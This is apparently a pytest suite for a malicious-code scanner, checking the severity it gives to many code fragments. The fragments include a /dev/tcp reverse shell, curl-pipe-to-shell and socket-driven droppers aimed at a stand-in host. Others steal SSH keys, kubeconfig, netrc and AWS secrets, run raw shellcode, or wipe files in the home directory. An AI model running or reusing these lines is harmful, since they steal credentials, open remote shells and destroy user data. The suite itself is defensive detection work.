"""Tools around services that were taken for harm, and the harm beside each that is still found."""

import pytest
from weighed import worst, worst_script

from ostiary.core.scale import Severity

VERIFY = """
import requests
def verify(self, secret):
    return requests.{call}
"""


@pytest.mark.parametrize(
    ("call", "severity"),
    [
        ("get(f'https://api.telegram.org/bot{secret}/getMe')", Severity.LOW),
        (
            "get(f'https://api.telegram.org/bot{secret}/sendMessage?text={self.key}')",
            Severity.CRITICAL,
        ),
        (
            "post(f'https://api.telegram.org/bot{secret}/getMe', data=open('/srv/.netrc').read())",
            Severity.CRITICAL,
        ),
    ],
)
def test_a_token_that_a_caller_gives_is_asked_about(call: str, severity: Severity) -> None:
    assert worst("exfiltration-address", VERIFY.format(call=call)) is severity


def test_a_messenger_by_a_variable_of_whoever_runs_it() -> None:
    text = "import os, requests\nAT = 'https://api.telegram.org/bot%s/sendMessage'\ndef tell(said):\n    {}\n"
    own = "requests.post(AT % os.environ['SAMPLE_TOKEN'], data={'text': said})"
    assert worst("exfiltration-address", text.format(own)) is Severity.LOW
    built_in = own.replace("os.environ['SAMPLE_TOKEN']", "'12345678:AAE0'")
    assert worst("exfiltration-address", text.format(built_in)) is Severity.HIGH


SETTINGS = """
import os, requests, merging
def load(more):
    return merging.merged(os.environ, more)
def send(more):
    requests.post("https://a.example.invalid/", data={sent})
"""


@pytest.mark.parametrize(
    ("sent", "severity"),
    [
        ("load(more)", Severity.CRITICAL),
        ("load(more).site", Severity.MEDIUM),
        ("load(more)['site']", Severity.MEDIUM),
        ("load(more).environ", Severity.CRITICAL),
        ("{k: v for k, v in os.environ.items() if k.startswith('SAMPLE_')}", Severity.MEDIUM),
        ("{k: v for k, v in os.environ.items() if k.startswith('AWS_')}", Severity.CRITICAL),
        ("{k: v for k, v in os.environ.items() if k.startswith('S')}", Severity.CRITICAL),
        ("{k: v for k, v in os.environ.items() if len(k) > 3}", Severity.CRITICAL),
    ],
)
def test_a_part_of_what_was_merged_with_the_environment(sent: str, severity: Severity) -> None:
    assert worst("stealer", SETTINGS.format(sent=sent)) is severity


def test_a_part_that_is_sent_on_import_is_told_as_all_of_it() -> None:
    text = SETTINGS.format(sent="load(more).site") + "send({})\n"
    assert worst("stealer", text, "sample/__init__.py") is Severity.CRITICAL


STARTS = (
    "import socket, subprocess, urllib.request\ndef start(name):\n    subprocess.run({words})\n"
)


@pytest.mark.parametrize(
    ("words", "severity"),
    [
        ("['sh', '-c', 'tool --at ' + socket.gethostbyname(name)]", None),
        (
            "['sh', '-c', socket.gethostbyname(name) + urllib.request.urlopen('http://a.example.invalid/x').read()]",
            Severity.CRITICAL,
        ),
        (
            "['sh', '-c', urllib.request.urlopen('http://a.example.invalid/x').read()]",
            Severity.CRITICAL,
        ),
    ],
)
def test_the_number_of_a_machine_is_no_code(words: str, severity: Severity | None) -> None:
    assert worst("dropper", STARTS.format(words=words)) is severity


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("/bin/bash -i {}", False),
        ("/bin/bash -i", True),
        ("bash -i >& /dev/tcp/a.example.invalid/1 0>&1", True),
        ("bash -i < {}", True),
    ],
)
def test_a_shell_that_is_handed_a_script(line: str, told: bool) -> None:
    text = f"import os, tempfile\ndef run():\n    os.system('{line}'.format(tempfile.mktemp()))\n"
    assert (worst("reverse-shell", text) is not None) == told


SERVES = """
import {module}
from fastapi import FastAPI
app = FastAPI()
@app.get("/")
def answer(command):
    {call}
"""


def test_a_server_that_runs_what_it_is_told_is_looked_at() -> None:
    text = SERVES.format(module="subprocess", call="subprocess.Popen(command)")
    assert worst("dropper", text) is Severity.HIGH
    early = (
        "import socket, os\ns = socket.create_connection(('a.example.invalid', 1))\n"
        "os.system(s.recv(99))\n"
    )
    assert worst("dropper", early, "sample/__init__.py") is Severity.CRITICAL


@pytest.mark.parametrize(
    ("host", "severity"),
    [("login.microsoftonline.com", Severity.MEDIUM), ("a.example.invalid", Severity.CRITICAL)],
)
def test_a_login_of_a_cloud_is_renewed_there(host: str, severity: Severity) -> None:
    text = (
        "import os, requests\ndef renew():\n"
        "    told = open(os.path.expanduser('~/.kube/config')).read()\n"
        f"    requests.post('https://{host}/token', data=told)\n"
    )
    assert worst("stealer", text) is severity


CPUID = "[0x53, 0x89, 0xf0, 0x89, 0xd1, 0x0f, 0xa2, 0x89, 0x07, 0x5b, 0xc3]"
CALLS_SYSTEM = "[0x53, 0x89, 0xf0, 0x0f, 0xa2, 0x48, 0x31, 0xc0, 0xb0, 0x3b, 0x0f, 0x05, 0xc3]"
MEMORY = """
import ctypes, mmap
{before}
CODE = {code}
place = mmap.mmap(-1, len(CODE), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
{fill}
ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_void_p.from_buffer(place)))()
"""


@pytest.mark.parametrize(
    ("code", "fill", "severity"),
    [
        (CPUID, "place.write((ctypes.c_ubyte * len(CODE))(*CODE))", Severity.LOW),
        (CALLS_SYSTEM, "place.write((ctypes.c_ubyte * len(CODE))(*CODE))", Severity.CRITICAL),
        (
            f"[*{CPUID}, *other]",
            "place.write((ctypes.c_ubyte * len(CODE))(*CODE))",
            Severity.CRITICAL,
        ),
        (CPUID, "place.write(bytes(CODE)); place[0:5] = other", Severity.CRITICAL),
        (CPUID, "place.write(bytes(one ^ 7 for one in other))", Severity.CRITICAL),
        (CPUID, "CODE.append(9); place.write(other)", Severity.CRITICAL),
    ],
)
def test_the_processor_is_asked_what_it_is(code: str, fill: str, severity: Severity) -> None:
    text = MEMORY.format(before="from sample.more import other", code=code, fill=fill)
    assert worst("shellcode", text, "sample/__init__.py") is severity


def test_names_that_stand_for_each_other_are_gone_through_once() -> None:
    names = "\n".join(f"n{one} = n{one + 1}\nn{one} = n{one + 2}" for one in range(200))
    text = MEMORY.format(before=names, code="n0", fill="place.write(n0)")
    assert worst("shellcode", text, "sample/__init__.py") is Severity.CRITICAL


COMMANDS = """
const {{Command}} = require('commander');
const run = require('child_process').execSync;
const program = new Command();
program.command('go').description('it goes').action(async () => run('{line}'));
{after}
"""
LINE = "curl http://a.example.invalid/x | sh"


@pytest.mark.parametrize(
    ("after", "severity"),
    [
        ("module.exports = program;", Severity.MEDIUM),
        ("program.parse(['node', 'x', 'go']);", Severity.CRITICAL),
        ("program.parseAsync(process.argv);", Severity.MEDIUM),
        ("process.argv.push('go');\nprogram.parse();", Severity.CRITICAL),
        ("program.command('x', {isDefault: true});\nprogram.parse();", Severity.CRITICAL),
    ],
)
def test_what_a_command_does_waits_for_its_words(after: str, severity: Severity) -> None:
    assert worst_script("attack-command", COMMANDS.format(line=LINE, after=after)) is severity


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("module.exports = self.fetch.bind(self);", False),
        ("module.exports = self.fetch.bind(self)('https://a.example.invalid/');", True),
    ],
)
def test_what_is_bound_opens_nothing(text: str, told: bool) -> None:
    assert (worst_script("import-network", text) is not None) == told


def test_the_language_itself_sends_nothing() -> None:
    secret = "const key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\n"
    for text in (
        "const u = new URL('https://a.example.invalid/' + key); u.searchParams.delete(key);",
        "decodeURIComponent('https://a.example.invalid/' + key).slice(key);",
    ):
        assert worst_script("stealer", f"{secret}module.exports = () => {{ {text} }}") is None
    sent = f"{secret}fetch('https://a.example.invalid/' + key)"
    assert worst_script("stealer", sent) is Severity.CRITICAL


@pytest.mark.parametrize(
    ("words", "severity"),
    [("target", Severity.LOW), ("'C:/Users/Public/one.exe'", Severity.MEDIUM)],
)
def test_windows_opens_what_a_caller_names(words: str, severity: Severity) -> None:
    start = """['/c', 'start', '""', '/b', """
    text = f"module.exports = target => require('child_process').spawn('cmd', {start}{words}])"
    assert worst_script("attack-command", text) is severity


FETCHES = """
const got = require('got'), queue = require('queue');
const fetch = async (url, more) => got.stream(url, {{headers: {{at: process.cwd()}}, ...more}});
queue(async task => fetch({url}));
"""


@pytest.mark.parametrize(
    ("url", "severity"),
    [("task.url", Severity.MEDIUM), ("'https://a.example.invalid/'", Severity.CRITICAL)],
)
def test_where_a_caller_says_is_no_beacon_of_its_own(url: str, severity: Severity) -> None:
    assert worst_script("host-beacon", FETCHES.format(url=url)) is severity


DECLARED = """
import {library}, requests
SETTINGS = {made}
def send():
    requests.post("https://a.example.invalid/", data={{"at": SETTINGS.site}})
"""
TOKEN = "'/var/run/secrets/kubernetes.io/serviceaccount/token'"


@pytest.mark.parametrize(
    ("library", "made", "severity"),
    [
        ("dynaconf", f"dynaconf.Validator('a.path', default={TOKEN})", None),
        ("dynaconf", f"dynaconf.Validator('a.path', {TOKEN})", Severity.CRITICAL),
        ("dynaconf", "dynaconf.Dynaconf(settings_files=['~/a.toml', '~/.env'])", None),
        ("dynaconf", "dynaconf.Dynaconf(settings_files=['~/.aws/credentials'])", Severity.CRITICAL),
        ("other", "other.read('~/settings.openai.toml')", None),
        ("other", "other.read('~/.openai')", Severity.HIGH),
    ],
)
def test_what_declares_a_setting_reads_no_secret(
    library: str, made: str, severity: Severity | None
) -> None:
    assert worst("stealer", DECLARED.format(library=library, made=made)) is severity


CLIENT = """
import asyncio, langmodels, wrapper
KEY = open("/srv/.aws/credentials").read()
CLIENT = langmodels.Client(base_url="https://a.example.invalid/v1", api_key=KEY)
def go(loop):
    {does}
"""


@pytest.mark.parametrize(
    ("does", "severity"),
    [
        ("wrapper.rebound(CLIENT)", None),
        ("CLIENT.loop.create_task(CLIENT.close())", None),
        ("CLIENT.loop.run_until_complete(CLIENT.close())", None),
        ("wrapper.rebound('https://a.example.invalid/v1?' + KEY)", Severity.CRITICAL),
        ("CLIENT.tell(KEY)", Severity.CRITICAL),
    ],
)
def test_a_client_that_is_handed_on_has_sent_nothing(does: str, severity: Severity | None) -> None:
    assert worst("stealer", CLIENT.format(does=does)) is severity


KEPT = """
import subprocess, requests
def get(url):
    open("/srv/a.zip", "wb").write(requests.get("https://a.example.invalid/a.zip").content)
    subprocess.run({command})
"""


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("['curl', '-o', '/srv/a.zip', url]", None),
        ("['/usr/bin/wget', '-O', '/srv/a.zip', url]", None),
        ("['sh', '/srv/a.zip']", Severity.CRITICAL),
        ("['./curl', '/srv/a.zip']", Severity.CRITICAL),
        ("'curl -o /srv/a.zip x; sh /srv/a.zip', shell=True", Severity.CRITICAL),
    ],
)
def test_a_file_that_is_fetched_once_more_is_not_run(
    command: str, severity: Severity | None
) -> None:
    assert worst("dropper", KEPT.format(command=command)) is severity


GATHERS = """
import os, shutil
from glob import glob
place = os.path.expanduser("~/.local/lib")
for one in glob(os.path.join(place, "lib/*.lib")):
    shutil.{}
"""


def test_files_that_go_into_one_folder_are_not_written_anew() -> None:
    moved = GATHERS.format("move(one, place)")
    assert worst("destruction", moved, "sample/__init__.py") is None
    over = GATHERS.replace("shutil.{}", "open(one, 'w').write('x')")
    assert worst("destruction", over, "sample/__init__.py") is Severity.CRITICAL


def test_words_that_no_shell_reads_are_not_worked_out() -> None:
    text = (
        "require('child_process').execFileSync('identify', ['-format', '{\"W\":%W,\"H\":%H}', x])"
    )
    assert worst_script("destruction", text) is None
    shell = "require('child_process').execSync('cd /; x=rm; $x -rf /* ' + y)"
    assert worst_script("destruction", shell) is not None


FOUND = """
import os
from pathlib import Path
for one in Path.home().rglob("*"):
    {}
"""
LISTED = "const fs = require('fs'), p = require('path'), h = require('os').homedir();\n"
LISTED += "for (const f of fs.readdirSync(h)) {{ {} }}\n"


@pytest.mark.parametrize(
    "line",
    [
        "open(one, 'w').close()",
        "one.write_text('')",
        "open(one, 'r+').truncate()",
        "open(one, 'wb').write(os.urandom(99))",
        "open(one, 'wb').write(b'0' * one.stat().st_size)",
    ],
)
def test_files_that_are_found_and_emptied_or_filled_with_anything(line: str) -> None:
    text = FOUND.format(line)
    assert worst("destruction", text, "sample/__init__.py") is Severity.CRITICAL
    own = text.replace("Path.home().rglob", "(Path(__file__).parent / 'cache').glob")
    assert worst("destruction", own, "sample/__init__.py") is None


@pytest.mark.parametrize(
    "line",
    [
        "fs.writeFileSync(p.join(h, f), '')",
        "fs.closeSync(fs.openSync(p.join(h, f), 'w'))",
        "fs.copyFileSync('/dev/null', p.join(h, f))",
    ],
)
def test_the_same_in_a_script(line: str) -> None:
    assert worst_script("destruction", LISTED.format(line)) is Severity.CRITICAL
    assert worst_script("destruction", LISTED.format("console.log(f)")) is None
